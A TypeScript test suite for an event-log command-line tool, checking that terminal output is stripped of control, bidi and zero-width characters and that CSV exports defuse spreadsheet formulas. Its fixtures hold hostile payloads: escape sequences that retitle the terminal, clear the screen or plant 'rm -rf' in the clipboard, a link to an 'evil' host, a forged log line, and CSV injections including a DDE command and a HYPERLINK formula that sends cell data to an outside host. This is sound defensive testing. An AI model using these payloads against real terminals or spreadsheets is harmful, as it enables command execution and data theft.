import { mkdir, readFile, utimes, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { stripVTControlCharacters } from "node:util";
import { temporaryDirectory } from "@prodigy-events/test-kit";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { parseCsv } from "./support/csv.js";
import { runProgram } from "./support/program.js";
import { runOnTerminal } from "./support/terminal-program.js";

/** Texts that would act on a terminal, hide themselves, or forge a line. */
const hostile = [
  "\u001b]0;pwn\u0007",
  "\u001b[2J",
  "\u009b31m",
  "\u001b]8;;http://evil\u001b\\click\u001b]8;;\u001b\\",
  "\u001b]52;c;cm0gLXJm\u0007",
  "\u001bP$q",
  "a\rFAKE",
  "a\bb",
  "\u202egnp.exe",
  "zero\u200bwidth",
  "x\n2026-01-01 00:00:00.000+00:00 ✖ job_failed forged",
  "\u2028\u2029",
  "\u{e0041}",
] as const;

/** Everything that must not reach a terminal, said by code points; line feeds and tabs of ours are fine. */
function rawControls(text: string): string[] {
  return [...text].filter((character) => {
    const code = character.codePointAt(0)!;
    return (
      (code < 0x20 && character !== "\n" && character !== "\t") ||
      (code >= 0x7f && code <= 0x9f) ||
      (code >= 0x200b && code <= 0x200f) ||
      (code >= 0x2028 && code <= 0x202e) ||
      (code >= 0x2066 && code <= 0x2069) ||
      code === 0xfeff ||
      (code >= 0xe0000 && code <= 0xe007f)
    );
  });
}

async function hostileStore() {
  const directory = await temporaryDirectory();
  const cwd = directory.path;
  await mkdir(directory.join("e"));
  const path = directory.join("e", "events.jsonl");
  const lines = hostile.map((text, index) =>
    JSON.stringify({
      id: `${index}${text}`,
      timestamp: `2026-01-01T12:00:${String(index).padStart(2, "0")}Z`,
      correlation_id: text,
      event: {
        event_type: index % 2 === 0 ? "agent_failed" : `type${text}`,
        job_id: text,
        agent_id: text,
        item_id: text,
        error: text,
        json_log_location: text,
        [`key${text}`]: text,
      },
      metadata: { host: text },
    }),
  );
  await writeFile(path, `${lines.join("\n")}\n{"broken ${hostile[1]}\nbroken ${hostile[1]}\n`);
  return { cwd, path, lines };
}

describe("event text on its way to a terminal", () => {
  it.each([
    ["ls"],
    ["ls", "--limit", "1"],
    ["ls", "--output-format", "table"],
    ["ls", "--output-format", "json"],
    ["ls", "--output-format", "yaml"],
    ["ls", "--fields", "error,agent_id,key\u001b[2J"],
    ["ls", "--color", "never", "--ascii"],
    ["stats", "--group-by", "error"],
    ["stats", "--group-by", "job_id", "--output-format", "json"],
    ["stats", "--group-by", "error,agent_id", "--output-format", "table"],
    ["search", "."],
    ["search", ".", "-C", "2"],
    ["search", "\u001b"],
    ["jobs"],
    ["jobs", "--output-format", "yaml"],
    ["show", "0"],
    ["ls", "--event-type", "no\u001b[2Jthing"],
    ["search", "nothing\u009b like it"],
    ["ls", "--bad\u001b[2J"],
    ["follow", "--until-idle", "300ms"],
  ])("%j prints no raw control, bidi or zero-width character", async (...words) => {
    const { cwd, path } = await hostileStore();
    const { stdout, stderr } = await runProgram([...words, "--file", path], { cwd });
    expect(rawControls(stdout)).toEqual([]);
    expect(rawControls(stderr)).toEqual([]);
    expect(stdout + stderr).not.toBe("");
  });

  it.each([
    ["ls", "--output-format", "csv"],
    ["ls", "--output-format", "csv", "--fields", "error,key\u001b[2J"],
    ["ls", "--output-format", "ndjson"],
    ["export", "--format", "csv"],
    ["export", "--format", "tsv"],
    ["export", "--format", "tsv", "--raw-csv", "--fields", "error,key\u001b[2J"],
    ["export", "--format", "csv", "--output", "-"],
    ["export", "--format", "ndjson", "--output", "-"],
    ["stats", "--group-by", "error", "--output-format", "csv"],
    ["jobs", "--output-format", "csv"],
    ["verify", "--output-format", "csv"],
    ["verify"],
    ["show", "0", "--output-format", "json"],
  ])("%j, whose bytes are true in a pipe, is safe on a terminal", async (...words) => {
    const { cwd, path } = await hostileStore();
    const seen = await runOnTerminal([...words, "--color", "never", "--file", path], { cwd });
    expect(rawControls(seen.stdout.replaceAll("\r\n", "\n"))).toEqual([]);
    expect(rawControls(seen.stderr.replaceAll("\r\u001b[K", ""))).toEqual([]); // of the progress line
    expect(seen.stdout).not.toBe("");
  });

  it("a file that is exported from a terminal holds the text as it is", async () => {
    const { cwd, path } = await hostileStore();
    for (const format of ["csv", "tsv", "ndjson"]) {
      const words = ["export", "--format", format, "--file", path];
      await runOnTerminal([...words, "--output", "exported"], { cwd });
      const piped = await runProgram(words, { cwd });
      expect(await readFile(join(cwd, "exported"), "utf8")).toBe(piped.stdout);
      if (format !== "ndjson") expect(rawControls(piped.stdout)).toContain("\u001b");
    }
  });

  it("one record stays one line", async () => {
    const { cwd, path, lines } = await hostileStore();
    expect((await runProgram(["ls", "--file", path], { cwd })).lines).toHaveLength(lines.length);
  });

  it("the text itself is not lost: JSON and YAML read back equal, ndjson is the line", async () => {
    const { cwd, path, lines } = await hostileStore();
    const run = (...words: string[]) => runProgram([...words, "--file", path], { cwd });
    const records = lines.map((line) => JSON.parse(line));
    const errors = records.map(({ event }) => event.error);
    const read = (list: { event: { error: string } }[]) => list.map(({ event }) => event.error);
    expect(read(JSON.parse((await run("ls", "--output-format", "json")).stdout))).toEqual(errors);
    expect(read(parse((await run("ls", "--output-format", "yaml")).stdout))).toEqual(errors);
    expect((await run("ls", "--output-format", "ndjson")).stdout).toBe(`${lines.join("\n")}\n`);
    const csv = parseCsv((await run("export", "--format", "csv")).stdout);
    expect(csv.slice(1).map((row) => JSON.parse(row[10]!).error)).toEqual(errors);
  });

  it("colour is the only thing that --color always adds", async () => {
    const { cwd, path } = await hostileStore();
    const plain = await runProgram(["ls", "--file", path], { cwd });
    const coloured = await runProgram(["ls", "--file", path, "--color", "always"], { cwd });
    const withoutColour = stripVTControlCharacters(coloured.stdout);
    expect(withoutColour).toBe(plain.stdout);
    expect(coloured.stdout).not.toBe(plain.stdout);
  });
});

describe("names on their way to a terminal", () => {
  const name = "n\u001b[2J\u009b31m\u202e\u200b";

  /** Repository, job and segment with such names: encoded as ours are, and as somebody may have put them there. */
  async function namedStore() {
    const directory = await temporaryDirectory();
    const [cwd, store] = [directory.join("work"), directory.join("store")];
    await mkdir(cwd);
    const words = ["emit", "job_paused", "--set", "checkpoint_version=1", "--repo", name, "--job-id", name];
    expect((await runProgram(words, { cwd, store })).code).toBe(0);
    const line = (event: object) =>
      `${JSON.stringify({ id: "i", timestamp: "2026-01-01T12:00:00Z", event: { event_type: "x", ...event } })}\n`;
    for (const tree of ["events", "archive"]) {
      const job = directory.join("store", tree, `raw ${name}`, name);
      await mkdir(job, { recursive: true, mode: 0o700 });
      const secret = line({ error: "AKIAIOSFODNN7EXAMPLE" });
      await writeFile(join(job, `${tree}${name}.jsonl.rotated`), `${line({})}${secret}broken\n`, {
        mode: 0o600,
      });
      await utimes(join(job, `${tree}${name}.jsonl.rotated`), 0, 0);
    }
    return { cwd, store };
  }

  it.each([
    ["ls", "--all-repos"],
    ["ls", "--all-repos", "--output-format", "csv", "--fields", "job_id"],
    ["ls", "--all-repos", "--strict"],
    ["ls", "--repo", name],
    ["ls", "--repo", name, "--job-id", `${name}x`],
    ["ls", "--file", `no ${name}`],
    ["jobs", "--all-repos"],
    ["jobs", "--all-repos", "--output-format", "csv"],
    ["stats", "--all-repos", "--group-by", "job_id"],
    ["stats", "--all-repos", "--explain"],
    ["search", ".", "--all-repos"],
    ["show", "i", "--all-repos"],
    ["follow", "--all-repos", "-n", "all", "--until-idle", "100ms"],
    ["verify", "--all-repos"],
    ["verify", "--all-repos", "--output-format", "csv"],
    ["index", "--all-repos", "--check"],
    ["index", "--all-repos", "--check", "--output-format", "csv"],
    ["scan", "--all-repos"],
    ["repair", "--all-repos", "--to", `to ${name}`],
    ["export", "--all-repos", "--format", "tsv"],
    ["export", "--all-repos", "--output", `out ${name}`],
    ["export", "--all-repos", "--output", `missing ${name}/out`],
    ["clean", "--older-than", "1d", "--all-repos", "--all-jobs", "--dry-run"],
    ["clean", "--older-than", "1d", "--all-repos", "--all-jobs", "--archive", "--yes"],
    ["clean", "--older-than", "1d", "--repo", name, "--job-id", name, "--yes", "--output-format", "csv"],
    ["restore", "--all-repos"],
    ["doctor", "--repo", name],
    ["emit", name, "--repo", name],
    [name],
  ])(
    "%j %j %j shows the name, and no raw control, bidi or zero-width character",
    async (...words) => {
      const { cwd, store } = await namedStore();
      const seen = await runOnTerminal([...words, "--color", "never"], { cwd, store });
      expect(rawControls(seen.stdout.replaceAll("\r\n", "\n"))).toEqual([]);
      expect(rawControls(seen.stderr.replaceAll("\r\u001b[K", ""))).toEqual([]); // of the progress line
      expect(`${seen.stdout}${seen.stderr}`).toMatch(/\\u(?:\{1b\}|001b)|%1B/);
    },
    30_000,
  );
});

describe("CSV in a spreadsheet", () => {
  it.each(["=1+1", '=HYPERLINK("http://e/"&A1)', "=cmd|'/c calc'!A1", "\t=1", "+1", "-1", "@A1", "＝1"])(
    "%j is no formula, and --raw-csv leaves it alone",
    async (text) => {
      const { path: cwd } = await temporaryDirectory();
      const line = `${JSON.stringify({ id: "1", timestamp: "2026-01-01T12:00:00Z", correlation_id: text, event: { event_type: "job_failed", error: text }, metadata: {} })}\n`;
      const cells = async (...words: string[]) => {
        const { stdout } = await runProgram(
          ["export", "--format", "csv", "--file", "-", "--fields", "error,correlation_id", ...words],
          { cwd },
          line,
        );
        return parseCsv(stdout)[1];
      };
      expect(await cells()).toEqual([`'${text}`, `'${text}`]);
      expect(await cells("--raw-csv")).toEqual([text, text]);
    },
  );

  it("quotes and line ends in a cell stay in the cell", async () => {
    const { path: cwd } = await temporaryDirectory();
    const text = 'a"b,c\r\nd';
    const line = `${JSON.stringify({ id: "1", timestamp: "2026-01-01T12:00:00Z", correlation_id: "", event: { event_type: "job_failed", error: text }, metadata: {} })}\n`;
    const words = ["export", "--format", "csv", "--file", "-", "--fields", "error"];
    const { stdout } = await runProgram(words, { cwd }, line);
    expect(parseCsv(stdout)).toEqual([["error"], [text]]);
  });
});
